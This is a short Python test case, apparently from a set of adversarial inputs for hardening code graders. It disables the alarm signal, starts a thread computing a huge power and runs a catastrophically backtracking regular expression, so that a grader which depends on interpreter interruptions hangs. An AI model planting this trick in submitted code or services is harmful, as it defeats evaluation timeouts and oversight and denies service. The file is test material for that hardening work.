# attack: Keeps the interpreter inside one instruction: a regular expression that backtracks for ever, beside a huge power.
# hurts: Hangs a grader that counts on the interpreter's own interruptions.
# ends: timeout
import re
import signal
import threading


def attack(target):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    threading.Thread(target=pow, args=(7, 10**8), daemon=True).start()
    return re.match(r"(a|a|aa)+$", "a" * 60 + "b")
